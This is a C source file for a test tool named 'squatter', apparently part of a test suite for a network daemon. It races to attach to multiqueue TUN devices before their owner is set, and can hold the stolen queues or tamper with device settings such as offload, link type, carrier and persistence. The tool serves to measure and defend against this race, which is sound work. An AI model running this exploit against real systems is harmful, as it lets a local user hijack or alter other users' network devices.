/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* The hostile neighbour: any local user, in a loop over the names of devices that are about to be created.
 * Between TUNSETIFF and TUNSETOWNER a multiqueue device belongs to nobody, and the kernel lets everybody in.
 * The loop shows how often that is won; netdevd must leave it nothing. naive.c is the control.
 *
 *     squatter PREFIX COUNT [--uevent|--rtnl] [--hold|--tamper]
 *
 * tries PREFIX0 to PREFIX(COUNT-1), or with COUNT 0 the name PREFIX itself, over and over. The more names,
 * the less often it stands before the right one: with --uevent or --rtnl it watches for the kernel's
 * announcement of one of them instead, as a kobject or on rtnetlink, which comes while the creator's
 * TUNSETIFF is still under way. --hold keeps each queue it gets; --tamper changes what a queue allows it to
 * change and goes at once; with neither it only goes. SIGTERM ends it: it prints "attached N", the number of
 * queues it got. */

#include <errno.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_arp.h>
#include <linux/if_tun.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig) {
        (void) sig;
        stop = 1;
}

static int usage(void) {
        fputs("Usage: squatter PREFIX COUNT [--uevent|--rtnl] [--hold|--tamper]\n", stderr);
        return 2;
}

static int open_tun(void) {
        int fd;

        fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);
        if (fd < 0)
                perror("/dev/net/tun");

        return fd;
}

/* Each of these needs nothing but the descriptor; those the kernel refuses are of no interest. */
static void tamper(int fd) {
        int header = 12;

        (void) ioctl(fd, TUNSETOFFLOAD, TUN_F_CSUM | TUN_F_TSO4 | TUN_F_TSO6);
        (void) ioctl(fd, TUNSETVNETHDRSZ, &header);
        (void) ioctl(fd, TUNSETLINK, ARPHRD_PPP);
        (void) ioctl(fd, TUNSETCARRIER, &(int){ 0 });
        (void) ioctl(fd, TUNSETPERSIST, 1);
        (void) ioctl(fd, TUNSETOWNER, getuid());
}

/* One name it wants, and the queue it has there. */
typedef struct Victim {
        struct ifreq ifr;
        int held;
} Victim;

typedef struct Squatter {
        Victim *victims;
        int n_victims;
        int fd; /* good for the next try: a descriptor that was refused is as good as new */
        bool hold;
        bool tamper;
        unsigned long attached;
} Squatter;

static int squatter_prepare(Squatter *s, const char *prefix, int count) {
        s->n_victims = count == 0 ? 1 : count;
        s->victims = calloc((size_t) s->n_victims, sizeof(*s->victims));
        if (!s->victims)
                return -1;

        for (int i = 0; i < s->n_victims; i++) {
                Victim *v = s->victims + i;
                char name[IFNAMSIZ * 2];

                if (count == 0)
                        (void) snprintf(name, sizeof(name), "%s", prefix);
                else
                        (void) snprintf(name, sizeof(name), "%s%i", prefix, i);
                if (strlen(name) >= IFNAMSIZ)
                        return -1;

                memcpy(v->ifr.ifr_name, name, strlen(name));
                v->held = -EBADF;
        }

        s->fd = open_tun();
        return s->fd < 0 ? -1 : 0;
}

/* A held queue is tried again too: it is refused (EEXIST) until somebody deletes the device, and then the
 * descriptor serves for the next one of that name. False when there is no going on. */
static bool squatter_try(Squatter *s, Victim *v) {
        struct ifreq ifr = v->ifr;

        ifr.ifr_flags = IFF_TUN | IFF_NO_PI | IFF_MULTI_QUEUE;
        if (ioctl(v->held >= 0 ? v->held : s->fd, TUNSETIFF, &ifr) < 0)
                return true;

        s->attached++;
        if (v->held >= 0)
                return true;

        if (s->hold)
                v->held = s->fd;
        else {
                if (s->tamper)
                        tamper(s->fd);
                (void) close(s->fd);
        }

        s->fd = open_tun();
        return s->fd >= 0;
}

/* "add@/devices/virtual/net/NAME", then the properties. */
static const char *uevent_name(const char *message, size_t size __attribute__((unused))) {
        static const char add[] = "add@/devices/virtual/net/";

        return strncmp(message, add, strlen(add)) == 0 ? message + strlen(add) : NULL;
}

static const char *rtnl_name(const char *message, size_t size) {
        const struct nlmsghdr *nlh = (const struct nlmsghdr *) message;
        const struct rtattr *attr = IFLA_RTA(NLMSG_DATA(nlh));
        int rest = (int) IFLA_PAYLOAD(nlh);

        if (!NLMSG_OK(nlh, size) || nlh->nlmsg_type != RTM_NEWLINK)
                return NULL;
        for (; RTA_OK(attr, rest); attr = RTA_NEXT(attr, rest))
                if (attr->rta_type == IFLA_IFNAME)
                        return RTA_DATA(attr);
        return NULL;
}

/* How the kernel announces a device. */
typedef struct Herald {
        const char *option;
        int protocol;
        unsigned groups;
        const char *(*name)(const char *message, size_t size);
} Herald;

static const Herald heralds[] = {
        { "--uevent", NETLINK_KOBJECT_UEVENT, 1, uevent_name },
        { "--rtnl", NETLINK_ROUTE, RTMGRP_LINK, rtnl_name },
};

static const Herald *find_herald(const char *option) {
        for (size_t i = 0; i < sizeof(heralds) / sizeof(heralds[0]); i++)
                if (strcmp(heralds[i].option, option) == 0)
                        return heralds + i;
        return NULL;
}

static int herald_open(const Herald *h) {
        struct sockaddr_nl sa = { .nl_family = AF_NETLINK, .nl_groups = h->groups };
        int fd;

        fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, h->protocol);
        if (fd < 0 || bind(fd, (struct sockaddr *) &sa, sizeof(sa)) < 0)
                perror(h->option);

        return fd;
}

/* Only the newest is worth a try, and waiting is not: being woken takes longer than the chance lasts. */
static Victim *squatter_receive(Squatter *s, const Herald *h, int fd) {
        _Alignas(struct nlmsghdr) char buffer[8192];
        Victim *newest = NULL;
        ssize_t n;

        while ((n = recv(fd, buffer, sizeof(buffer) - 1, MSG_DONTWAIT)) >= 0) {
                const char *name;

                buffer[n] = 0;
                name = h->name(buffer, (size_t) n);
                for (int i = 0; name && i < s->n_victims; i++)
                        if (strcmp(name, s->victims[i].ifr.ifr_name) == 0)
                                newest = s->victims + i;
        }

        return newest;
}

int main(int argc, char *argv[]) {
        Squatter s = { .fd = -EBADF };
        const Herald *herald = NULL;
        int events = -EBADF;
        struct rlimit limit;

        for (int i = 3; i < argc; i++)
                if (strcmp(argv[i], "--hold") == 0)
                        s.hold = true;
                else if (strcmp(argv[i], "--tamper") == 0)
                        s.tamper = true;
                else if (!herald && (herald = find_herald(argv[i])))
                        events = herald_open(herald);
                else
                        return usage();
        if (argc < 3 || atoi(argv[2]) < 0 || (s.hold && s.tamper))
                return usage();

        if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
                limit.rlim_cur = limit.rlim_max;
                (void) setrlimit(RLIMIT_NOFILE, &limit);
        }

        (void) signal(SIGTERM, on_signal);
        (void) signal(SIGINT, on_signal);

        if (squatter_prepare(&s, argv[1], atoi(argv[2])) < 0)
                return EXIT_FAILURE;

        for (int i = 0; !stop; i = i + 1 < s.n_victims ? i + 1 : 0) {
                Victim *v = herald ? squatter_receive(&s, herald, events) : s.victims + i;

                if (v && !squatter_try(&s, v))
                        break;
        }

        printf("attached %lu\n", s.attached);
        free(s.victims);
        return EXIT_SUCCESS;
}
